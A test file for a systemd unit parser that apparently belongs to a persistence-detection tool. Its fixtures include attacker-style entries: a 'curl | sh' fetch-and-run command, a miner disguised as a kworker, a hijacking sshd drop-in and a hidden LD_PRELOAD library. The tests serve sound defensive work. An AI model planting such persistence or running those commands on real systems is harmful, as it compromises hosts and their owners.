import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { lastValue, mergeUnit, parseEnvironment, parseExec, parseUnitFile, templateOf, unitName } from '../../../src/collectors/systemd-units/parse-unit.js';

describe('parseUnitFile', () => {
  it('sections, keys with spaces around =, # and ; comments, line numbers', () => {
    const s = parseUnitFile('# c\n[Unit]\nDescription = A unit\n; c\n[Service]\nExecStart=/bin/true\nbroken line\n', 'u.service');
    expect(s).toEqual([
      { section: 'Unit', key: 'Description', value: 'A unit', file: 'u.service', line: 3 },
      { section: 'Service', key: 'ExecStart', value: '/bin/true', file: 'u.service', line: 6 },
    ]);
  });

  it('a trailing backslash continues the line (comment lines inside are skipped); the setting keeps its first line', () => {
    const text = '[Service]\nExecStart=/dev/shm/.x/kswapd0 \\\n  --config /dev/shm/.x/config.json \\\n# a comment inside\n  -B\nUser=root\n';
    const s = parseUnitFile(text, 'k.service');
    expect(s[0]).toMatchObject({ key: 'ExecStart', line: 2, value: '/dev/shm/.x/kswapd0  --config /dev/shm/.x/config.json  -B' });
    expect(s[1]).toMatchObject({ key: 'User', value: 'root', line: 6 });
  });

  it('reads the real ssh.service of Debian 12', () => {
    const s = parseUnitFile(readFileSync(new URL('../../fixtures/persistence-autostart/clean/lib/systemd/system/ssh.service', import.meta.url), 'utf8'), 'ssh.service');
    const exec = s.filter((x) => x.key.startsWith('Exec')).map((x) => [x.key, x.value]);
    expect(exec).toContainEqual(['ExecStart', '/usr/sbin/sshd -D $SSHD_OPTS']);
    expect(exec).toContainEqual(['ExecReload', '/bin/kill -HUP $MAINPID']);
  });
});

describe('parseExec', () => {
  it.each([
    ['/usr/bin/x a b', '', '/usr/bin/x', ['/usr/bin/x', 'a', 'b']],
    ['-/bin/sh -c "curl -fsSL http://x | sh"', '-', '/bin/sh', ['/bin/sh', '-c', 'curl -fsSL http://x | sh']],
    ['@/tmp/.x/miner kworker/0:1 -o pool', '@', '/tmp/.x/miner', ['/tmp/.x/miner', 'kworker/0:1', '-o', 'pool']],
    ['+/usr/bin/y', '+', '/usr/bin/y', ['/usr/bin/y']],
    ['!!/usr/bin/z', '!!', '/usr/bin/z', ['/usr/bin/z']],
    ['-@:/bin/a \'b c\'', '-@:', '/bin/a', ['/bin/a', 'b c']],
    ['|/bin/bash -c true', '|', '/bin/bash', ['/bin/bash', '-c', 'true']],
  ])('%s', (value, prefixes, path, argv) => {
    const e = parseExec(value);
    expect(e.prefixes).toBe(prefixes);
    expect(e.path).toBe(path);
    expect(e.argv).toEqual(argv);
  });
});

describe('mergeUnit: drop-ins', () => {
  it('an empty ExecStart= clears the list before the drop-in adds its own; single-valued keys: last wins', () => {
    const u = mergeUnit([
      { file: '/lib/systemd/system/ssh.service', text: '[Service]\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D\nUser=root\n' },
      { file: '/etc/systemd/system/ssh.service.d/10-x.conf', text: '[Service]\nExecStart=\nExecStart=/tmp/.x/sshd -D\n' },
      { file: '/etc/systemd/system/ssh.service.d/20-y.conf', text: '[Service]\nUser=nobody\nExecStartPost=/dev/shm/p\n' },
    ]);
    expect(u.get('Service.ExecStart')!.map((s) => [s.value, s.file])).toEqual([['/tmp/.x/sshd -D', '/etc/systemd/system/ssh.service.d/10-x.conf']]);
    expect(u.get('Service.ExecStartPre')!.map((s) => s.value)).toEqual(['/usr/sbin/sshd -t']);
    expect(u.get('Service.ExecStartPost')!.map((s) => s.value)).toEqual(['/dev/shm/p']);
    expect(lastValue(u, 'Service.User')).toBe('nobody');
  });
});

describe('environment, names', () => {
  it('Environment= words with quotes', () => {
    expect(parseEnvironment('"LD_PRELOAD=/lib/.x/l.so" A=1 "B=two words"')).toEqual([
      { name: 'LD_PRELOAD', value: '/lib/.x/l.so' },
      { name: 'A', value: '1' },
      { name: 'B', value: 'two words' },
    ]);
  });

  it('unit names and templates', () => {
    expect(unitName('kswapd0.service')).toEqual({ name: 'kswapd0.service', type: 'service' });
    expect(unitName('apt-refresh.timer')?.type).toBe('timer');
    expect(unitName('override.conf')).toBeNull();
    expect(templateOf('getty@tty1.service')).toBe('getty@.service');
    expect(templateOf('ssh.service')).toBe('ssh.service');
  });
});
